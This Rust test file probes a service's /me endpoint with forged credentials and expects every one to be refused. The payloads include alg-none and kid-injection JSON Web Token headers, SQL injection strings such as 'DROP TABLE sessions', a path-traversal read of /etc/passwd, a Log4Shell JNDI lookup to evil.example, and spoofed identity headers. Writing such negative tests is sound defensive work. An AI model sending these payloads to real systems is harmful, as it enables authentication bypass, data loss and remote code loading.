//! Tokens that somebody made up: none of them opens anything.

use crate::support::Request;
use crate::{Finding, Target, check};

/// `{"alg":…}` and `{"sub":"admin"}` as JSON Web Tokens have them, in base64 without padding.
const JWT_HEADERS: [&str; 9] = [
    "eyJhbGciOiJub25lIn0",
    "eyJhbGciOiJOb25lIn0",
    "eyJhbGciOiJOT05FIn0",
    "eyJhbGciOiJuT25FIn0",
    "eyJhbGciOiIifQ",
    "eyJhbGciOiJIUzI1NiJ9",
    "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uL2Rldi9udWxsIn0",
    "eyJhbGciOiJIUzI1NiIsImtpZCI6IicgVU5JT04gU0VMRUNUICdrJyJ9",
    "eyJhbGciOiJSUzI1NiIsImprdSI6Imh0dHA6Ly9ldmlsLmV4YW1wbGUvIn0",
];
const JWT_BODY: &str = "eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9";

/// Every value of `Authorization` that is tried, made of a token that works.
fn crafted(good: &str) -> Vec<String> {
    let mut tokens: Vec<String> = Vec::new();
    for header in JWT_HEADERS {
        for signature in ["", "AA", "c2lnbmF0dXJl"] {
            tokens.push(format!("{header}.{JWT_BODY}.{signature}"));
        }
    }
    let middle = good.len() / 2;
    let (prefix, rest) = good.split_once('_').unwrap_or(("", good));
    tokens.extend([
        String::from("fat_"),
        format!("fat_{}", "0".repeat(72)),
        format!("fat_{}", "f".repeat(72)),
        format!("fat_{}", "0".repeat(10_000)),
        "null".into(),
        "undefined".into(),
        "true".into(),
        "admin".into(),
        "0".into(),
        "-".into(),
        "*".into(),
        "%".into(),
        "' OR '1'='1".into(),
        "' OR 1=1 --".into(),
        "'; DROP TABLE sessions; --".into(),
        "fat_' UNION SELECT * FROM sessions --".into(),
        "../../../etc/passwd".into(),
        "${jndi:ldap://evil.example/a}".into(),
        "{{7*7}}".into(),
        good[1..].into(),
        good[..good.len() - 1].into(),
        good[..middle].into(),
        good[middle..].into(),
        format!("{good}0"),
        format!("0{good}"),
        format!("{good}{good}"),
        format!("{good},{good}"),
        format!("{good};"),
        format!("{good}="),
        format!("{good}%00"),
        format!("{good}\\0"),
        format!("\"{good}\""),
        format!("{prefix}__{rest}"),
        format!("{prefix}-{rest}"),
        rest.to_owned(),
        format!("frt_{rest}"),
        format!("key_{rest}"),
        format!("fak_{rest}"),
        format!("Bearer {good}"),
        good.to_uppercase(),
        good.chars().rev().collect(),
        good.replace('_', "%5f"),
    ]);
    // One character changed, at places all over: the checksum or the hash sees each.
    for place in (0..good.len()).step_by(5) {
        let mut changed: Vec<u8> = good.bytes().collect();
        changed[place] = if changed[place] == b'0' { b'1' } else { b'0' };
        tokens.push(String::from_utf8(changed).unwrap());
    }
    tokens.retain(|token| token != good);
    tokens.into_iter().map(|token| format!("Bearer {token}")).chain(schemes(good)).collect()
}

/// The right token shown in a wrong way.
fn schemes(good: &str) -> Vec<String> {
    ["Basic", "Token", "Digest", "JWT", "bearer_token", "Bearer:", "X"]
        .map(|scheme| format!("{scheme} {good}"))
        .into_iter()
        .chain([good.to_owned(), format!("Bearer{good}"), format!("Bearer\u{a0}{good}")])
        .collect()
}

fn probe(target: &Target) -> Vec<Finding> {
    let values = crafted(&target.token);
    assert!(values.len() >= 60, "{}", values.len());
    let opened = |value: &String| {
        let answer = target.ask_as_nobody(&Request::get("/me").header("Authorization", value))?;
        (answer.status != 401 && answer.status != 431)
            .then(|| format!("{value:?} opens /me: {}", answer.status))
    };
    let mut found: Vec<Finding> = values.iter().filter_map(opened).collect();
    // Where no token is looked for: the path, a cookie, a body, another header.
    let token = &target.token;
    for request in [
        Request::get(&format!("/me?access_token={token}")),
        Request::get(&format!("/me?token={token}")),
        Request::get("/me")
            .header("Cookie", &format!("access_token={token}; token={token}; session={token}")),
        Request::get("/me").header("X-Access-Token", token),
        Request::get("/me").header("X-Api-Key", token),
        Request::get("/me").header("Proxy-Authorization", &format!("Bearer {token}")),
        Request::get("/me").header("X-User-Id", "1").header("X-Forwarded-User", "admin"),
    ] {
        if let Some(answer) = target.ask_as_nobody(&request).filter(|answer| answer.status < 400) {
            found.push(format!("no token opens /me: {answer}"));
        }
    }
    found
}

#[test]
fn no_token_that_somebody_made_up_opens_anything() {
    check(probe);
}
